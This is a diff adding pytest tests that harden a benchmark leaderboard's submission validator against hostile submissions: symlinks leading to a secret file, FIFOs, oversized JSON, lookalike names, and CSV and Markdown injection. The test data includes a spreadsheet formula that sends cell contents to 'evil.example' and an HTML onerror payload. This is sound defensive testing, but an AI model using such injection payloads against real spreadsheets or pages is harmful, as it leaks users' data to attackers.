@@ -5,6 +5,7 @@ from __future__ import annotations
 import ast
 import json
 import math
+import os
 import shutil
 from pathlib import Path
 
@@ -326,6 +327,7 @@ def test_plots_leave_out_unknown_sizes(board, tmp_path):
         path = plot(board, tmp_path / f"{plot.__name__}.png")
         assert path.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
     assert plot_note(board).startswith("Left out of the parameter-efficiency plots")
+    # a Markdown note: the names in it are escaped
     assert "BM25, " in plot_note(board) or "BM25 + minilm, BM25" in plot_note(board)
 
 
@@ -353,7 +355,10 @@ def test_space_folder(board, tmp_path):
         for a in (n.names if isinstance(n, ast.Import) else [n])
     }  # fmt: skip
     # a Space installs only requirements.txt: the app imports gradio, pandas and the stdlib
-    assert imported - {"__future__", "json", "os", "pathlib", "typing"} == {"gradio", "pandas"}
+    assert imported - {"__future__", "json", "os", "pathlib", "re", "typing"} == {
+        "gradio",
+        "pandas",
+    }
     saved = json.loads((tmp_path / "space" / "leaderboard.json").read_text())
     assert saved["tables"]["overall"]["data"][0][1] == board.overall["Model"][0]
     assert not any(isinstance(v, float) and math.isnan(v)
@@ -385,3 +390,271 @@ def test_runs_must_hold_what_the_results_say(data, dataset, tmp_path):
     _write_lines(path, lines)
     with pytest.raises(SubmissionRejected, match="'code_not_in_the_text_corpus', which is not in"):
         validate_submission(folder, dataset)
+
+
+# ---------------------------------------------------------------------------------------------
+# what a stranger's submission may not do (issue 27)
+# ---------------------------------------------------------------------------------------------
+
+SECRET = "TOKEN-hf_abc123 do not publish\n"
+
+
+def _symlink_out(folder: Path, relative: str, tmp_path: Path) -> None:
+    """Replace ``folder/relative`` with a symlink to a file outside the submission."""
+    secret = tmp_path / "outside" / "token.txt"
+    secret.parent.mkdir(exist_ok=True)
+    secret.write_text(SECRET)
+    (folder / relative).unlink()
+    (folder / relative).symlink_to(secret)
+
+
+@pytest.mark.parametrize(
+    ("name", "relative"),
+    [
+        ("bm25", "results.json"),
+        ("bm25", "model_meta.json"),
+        ("bm25", "per_query.jsonl"),
+        ("bm25", "runs/c2c_cross_lang.trec"),
+        ("bm25-minilm", "first_stage/runs/c2c_cross_lang.trec"),
+    ],
+)
+def test_no_file_is_read_through_a_symlink_out_of_the_submission(
+    data, dataset, tmp_path, name, relative
+):
+    folder = _copy(data, name, tmp_path)
+    _symlink_out(folder, relative, tmp_path)
+    with pytest.raises(SubmissionRejected, match="leads outside") as err:
+        validate_submission(folder, dataset)
+    assert relative.split("/")[-1] in str(err.value) and "TOKEN" not in str(err.value)
+
+
+def test_a_runs_folder_linked_out_or_a_fifo_is_not_read(data, dataset, tmp_path):
+    folder = _copy(data, "bm25", tmp_path)
+    elsewhere = tmp_path / "elsewhere"
+    shutil.move(folder / "runs", elsewhere)
+    (folder / "runs").symlink_to(elsewhere)
+    with pytest.raises(SubmissionRejected, match=r"runs/\w+\.trec: leads outside"):
+        validate_submission(folder, dataset)
+
+    for relative in ("runs/c2c_cross_lang.trec", "per_query.jsonl"):
+        folder = _copy(data, "bm25", tmp_path / relative.replace("/", "-"))
+        (folder / relative).unlink()
+        os.mkfifo(folder / relative)  # reading it would block for ever
+        with pytest.raises(SubmissionRejected, match=r"not a regular file \(a FIFO\)"):
+            validate_submission(folder, dataset)
+
+
+def test_find_submissions_refuses_a_folder_linked_out_of_the_root(data, tmp_path):
+    from model_cards.leaderboard.submission import find_submissions
+
+    root = tmp_path / "root"
+    shutil.copytree(data.submissions / "bm25", root / "bm25")
+    (root / "theirs").symlink_to(data.submissions / "minilm", target_is_directory=True)
+    with pytest.raises(ValueError, match=r"theirs: leads outside .*root \(a symlink"):
+        find_submissions(root)
+    (root / "theirs").unlink()
+    assert find_submissions(root) == [root / "bm25"]
+
+
+@pytest.mark.parametrize(
+    ("line", "message"),
+    [
+        ("[1, 2]", r"per_query.jsonl:3: each line must be a JSON object, got list"),
+        ('{"subtask": ["x"], "query_id": "q"}', r"per_query.jsonl:3: subtask and query_id must"),
+        ("[" * 5000 + "]" * 5000, r"per_query.jsonl:3: nested deeper than 64 levels"),
+        ('{"ndcg_at_10": 1' + "0" * 5000 + "}", r"per_query.jsonl:3: an integer of 5001 digits"),
+        (b'{"subtask": "\xff"}', r"per_query.jsonl:3: not UTF-8 text"),
+    ],
+)
+def test_a_bad_per_query_line_is_a_rejection_naming_file_and_line(
+    data, dataset, tmp_path, line, message
+):
+    folder = _copy(data, "bm25", tmp_path)
+    path = folder / "per_query.jsonl"
+    lines = path.read_bytes().splitlines()
+    lines[2] = line if isinstance(line, bytes) else line.encode()
+    path.write_bytes(b"\n".join(lines) + b"\n")
+    with pytest.raises(SubmissionRejected, match=message):
+        validate_submission(folder, dataset)
+
+
+@pytest.mark.parametrize(
+    ("text", "message"),
+    [
+        ("[" * 5000 + "]" * 5000, r"model_meta.json: nested deeper than 64 levels"),
+        (b'{"name": "BM25\xff"}', r"model_meta.json: not UTF-8 text \(byte 0xff"),
+        ('{"name": "BM25", "type": "lexical", "parameters": 1' + "0" * 5000 + "}",
+         r"model_meta.json: an integer of 5001 digits"),
+    ],
+)  # fmt: skip
+def test_a_bad_model_meta_file_is_a_rejection_naming_it(data, dataset, tmp_path, text, message):
+    folder = _copy(data, "bm25", tmp_path)
+    raw = text if isinstance(text, bytes) else text.encode()
+    (folder / "model_meta.json").write_bytes(raw)
+    with pytest.raises(SubmissionRejected, match=message):
+        validate_submission(folder, dataset)
+
+
+def test_rows_with_other_cutoffs_are_blamed_as_themselves(data, dataset, tmp_path):
+    folder = _copy(data, "bm25", tmp_path)
+    res = _results(folder)
+    subtask_rows = [r for r in res["rows"] if r["level"] == "subtask"]
+    odd = subtask_rows[0]["name"]
+    del subtask_rows[0]["ndcg_at_5"]  # the first row lacks a cutoff every other row holds
+    _write_results(folder, res)
+    with pytest.raises(SubmissionRejected, match=rf"subtask row '{odd}' holds the metrics") as e:
+        validate_submission(folder, dataset)
+    assert e.value.row == odd
+
+    res = _results(folder)
+    res["rows"][0]["ndcg_at_5"] = 0.5
+    later = next(r for r in res["rows"][1:] if r["level"] == "subtask")
+    later["ndcg_at_x"] = 0.5  # a key that looks like a metric, in a later row
+    _write_results(folder, res)
+    with pytest.raises(
+        SubmissionRejected, match=rf"subtask row '{later['name']}': 'ndcg_at_x' is not a metric"
+    ):
+        validate_submission(folder, dataset)
+
+
+def _renamed(data, name: str, new: str, tmp_path: Path, **meta) -> Path:
+    folder = _copy(data, name, tmp_path)
+    res = _results(folder)
+    stored = json.loads((folder / "model_meta.json").read_text())
+    res["model"]["name"] = stored["name"] = new
+    stored.update(meta)
+    _write_results(folder, res)
+    (folder / "model_meta.json").write_text(json.dumps(stored))
+    return folder
+
+
+@pytest.mark.parametrize(
+    ("name", "message"),
+    [
+        ("BM25 ", "starts or ends with whitespace"),
+        ("BM\u202e25", r"holds the character U\+202E"),
+        ("ＢＭ25", "not NFKC-normalised"),
+        ("BМ25", "mixes letters of CYRILLIC, LATIN"),  # a Cyrillic М among Latin letters
+    ],
+)
+def test_names_must_be_printable_and_unambiguous(name, message):
+    with pytest.raises(ValueError, match=message):
+        ModelMeta(name=name, type="lexical")
+    with pytest.raises(ValueError, match=message):
+        ModelMeta(name="x", type="reranked", first_stage="BM25", reranker=name)
+
+
+def test_names_that_read_alike_or_runs_that_rank_alike_share_no_board(data, dataset, tmp_path):
+    from dataclasses import replace
+
+    from model_cards.leaderboard.app import load_board
+    from model_cards.leaderboard.table import build_leaderboard
+
+    bm25 = validate_submission(data.submissions / "bm25", dataset)
+    minilm = validate_submission(data.submissions / "minilm", dataset)
+    for lookalike in ("bm25", "ВМ25", "ΒΜ25"):  # lowercase, Cyrillic, Greek
+        meta = replace(minilm.submission.meta, name=lookalike)
+        other = replace(minilm, submission=replace(minilm.submission, meta=meta))
+        with pytest.raises(ValueError, match="reads like 'BM25'"):
+            build_leaderboard([bm25, other], n_resamples=100)
+
+    # the same runs under another name (and other tags): one system submitted twice
+    subs = tmp_path / "subs"
+    shutil.copytree(data.submissions / "bm25", subs / "bm25")
+    twin = _renamed(data, "bm25", "Okapi", subs / "twin")
+    for path in (twin / "runs").iterdir():
+        path.write_text(path.read_text().replace(" BM25\n", " okapi\n"))
+    with pytest.raises(ValueError, match="rank every query alike: one system under two names"):
+        load_board(subs, data.dataset, n_resamples=100)
+
+
+def test_declared_fields_the_results_contradict_are_rejected(data, dataset, tmp_path):
+    folder = _copy(data, "bm25", tmp_path)  # BM25 claiming 1 parameter tops the efficiency plot
+    res = _results(folder)
+    res["model"]["parameters"] = 1
+    _write_results(folder, res)
+    meta = json.loads((folder / "model_meta.json").read_text())
+    (folder / "model_meta.json").write_text(json.dumps({**meta, "parameters": 1}))
+    with pytest.raises(SubmissionRejected, match=r"a lexical retriever .* has no parameters"):
+        validate_submission(folder, dataset)
+    (folder / "model_meta.json").write_text(json.dumps({**meta, "type": "embedder",
+                                                        "parameters": 1}))  # fmt: skip
+    with pytest.raises(SubmissionRejected, match="describes a lexical model"):
+        validate_submission(folder, dataset)
+
+    folder = _copy(data, "bm25-minilm", tmp_path / "b")
+    meta = json.loads((folder / "model_meta.json").read_text())
+    (folder / "model_meta.json").write_text(json.dumps({**meta, "reranker": "big-reranker"}))
+    with pytest.raises(SubmissionRejected, match="reranker 'big-reranker' differ from"):
+        validate_submission(folder, dataset)
+
+
+def test_the_board_publishes_no_local_path_and_says_what_is_self_reported(board, data, tmp_path):
+    from model_cards.leaderboard.app import write_board
+
+    write_board(board, tmp_path)
+    text = (tmp_path / "leaderboard.json").read_text()
+    assert str(data.dataset) not in text and str(data.dataset.resolve()) not in text
+    saved = json.loads(text)
+    assert saved["dataset"]["name"] == data.dataset.name
+    assert any(note.startswith("Parameters, Size, Code-specialized and the untrained-reranker "
+                               "flag are self-reported") for note in saved["notes"])  # fmt: skip
+
+
+def _one_entry_board(board, name: str, parameters: int | None = None, *others):
+    """``board``'s MiniLM entry renamed (and resized), with ``others`` beside it."""
+    from dataclasses import replace
+
+    from model_cards.leaderboard.table import build_leaderboard
+
+    entry = next(e for e in board.entries if e.submission.meta.type == "embedder")
+    meta = replace(entry.submission.meta, name=name,
+                   parameters=parameters or entry.submission.meta.parameters)  # fmt: skip
+    renamed = replace(entry, submission=replace(entry.submission, meta=meta), runs_digest=name)
+    return build_leaderboard([renamed, *others], n_resamples=100)
+
+
+def test_csv_cells_are_never_formulas(board, tmp_path):
+    import csv
+
+    from model_cards.leaderboard.app import write_board
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    write_board(_one_entry_board(board, formula), tmp_path)
+    with open(tmp_path / "leaderboard.csv", newline="", encoding="utf-8") as fh:
+        models = [row["Model"] for row in csv.DictReader(fh)]
+    assert "'" + formula in models and formula not in models
+
+
+def test_plots_draw_names_as_text_and_tell_alike_names_apart(board, tmp_path, monkeypatch):
+    pytest.importorskip("matplotlib")
+    from model_cards.leaderboard import plots
+
+    # a `$` pair is mathtext to matplotlib: \foo is no command, and the build used to fail
+    mathtext = _one_entry_board(board, r"$\foo$ coder")
+    for plot in (plots.plot_parameter_efficiency, plots.plot_ndcg_per_billion):
+        assert plot(mathtext, tmp_path / f"{plot.__name__}.png").is_file()
+
+    base = _one_entry_board(board, "org-b/coder", 10**9)
+    two = _one_entry_board(board, "org-a/coder", 10**8, base.entries[0])
+    figures = []
+    monkeypatch.setattr(plots, "_save", lambda fig, *_: figures.append(fig))
+    plots.plot_parameter_efficiency(two, tmp_path / "a.png")
+    plots.plot_ndcg_per_billion(two, tmp_path / "b.png")
+    scatter, bars = (fig.axes[0] for fig in figures)
+    assert {t.get_text() for t in scatter.texts} == {"org-a/coder", "org-b/coder"}
+    assert [t.get_text() for t in bars.get_yticklabels()] == ["org-a/coder", "org-b/coder"]
+    assert len(bars.patches) == 2 and len({p.get_y() for p in bars.patches}) == 2
+
+
+@pytest.mark.parametrize(
+    "text",
+    ['<img src="x" onerror="a()">', "[l](http://e.example) **b** # h", r"$\foo$ a_b|c`d`",
+     "line\nbreak\ttab", "&lt; ~~s~~ !x: = ' % {}"],
+)  # fmt: skip
+def test_the_pages_own_escaper_is_the_houses(text):
+    # page.py is copied alone into a Space, so it carries a copy of markdown_text
+    from coreb_toolkit.untrusted import markdown_text
+    from model_cards.leaderboard import page
+
+    assert page._markdown_text(text) == markdown_text(text)
